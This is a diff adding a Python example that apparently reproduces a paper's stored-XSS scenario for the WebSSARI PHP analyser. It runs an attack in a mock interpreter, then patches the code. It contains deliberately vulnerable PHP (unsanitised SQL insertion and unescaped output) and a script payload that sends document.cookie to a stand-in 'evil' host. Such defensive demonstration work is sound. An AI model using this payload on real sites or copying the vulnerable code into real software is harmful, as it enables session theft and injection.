@@ -1,0 +1,67 @@
+"""Stored-XSS audit: the paper's PHP Support Tickets scenario (Figures 1–2).
+
+A ticket-submission script inserts user input into the database without
+sanitization; a display script renders stored tickets back to every
+user.  The example (1) verifies both scripts, (2) demonstrates the
+attack end-to-end in the mini PHP interpreter, (3) applies WebSSARI's
+automatic patch, and (4) shows the attack neutralized.
+
+Run:  python examples/xss_audit.py
+"""
+
+from repro import WebSSARI
+from repro.interp import HttpRequest, MockDatabase, run_php
+
+SUBMIT = """<?php
+$query = "INSERT INTO tickets_tickets (tickets_username, tickets_subject)
+          VALUES ('{$_SESSION_username}', '{$_POST['ticketsubject']}')";
+$result = @mysql_query($query);
+echo "Ticket submitted.";
+"""
+
+DISPLAY = """<?php
+$query = "SELECT tickets_username, tickets_subject FROM tickets_tickets";
+$result = @mysql_query($query);
+while ($row = @mysql_fetch_array($result)) {
+  extract($row);
+  echo "$tickets_username<BR>$tickets_subject<BR><BR>";
+}
+"""
+
+PAYLOAD = "<script>document.location='http://evil/steal?c='+document.cookie</script>"
+
+
+def main() -> None:
+    websari = WebSSARI()
+
+    print("=== static verification ===")
+    for name, source in (("submit.php", SUBMIT), ("display.php", DISPLAY)):
+        report = websari.verify_source(source, filename=name)
+        print(report.summary())
+    print()
+
+    print("=== attack against the unpatched application ===")
+    db = MockDatabase()
+    db.create_table("tickets_tickets", [])
+    run_php(SUBMIT, request=HttpRequest(post={"ticketsubject": PAYLOAD}), database=db)
+    response = run_php(DISPLAY, database=db).response_body()
+    delivered = "<script>" in response
+    print(f"response contains live <script> tag: {delivered}")
+    assert delivered
+    print()
+
+    print("=== patching display.php ===")
+    report, patched = websari.patch_source(DISPLAY, filename="display.php", strategy="bmc")
+    print(f"guards inserted: {patched.num_guards}")
+    print(patched.source)
+
+    print("=== attack against the patched application ===")
+    response = run_php(patched.source, database=db).response_body()
+    delivered = "<script>" in response
+    print(f"response contains live <script> tag: {delivered}")
+    assert not delivered
+    print("stored payload is rendered inert:", response.strip()[:80], "...")
+
+
+if __name__ == "__main__":
+    main()
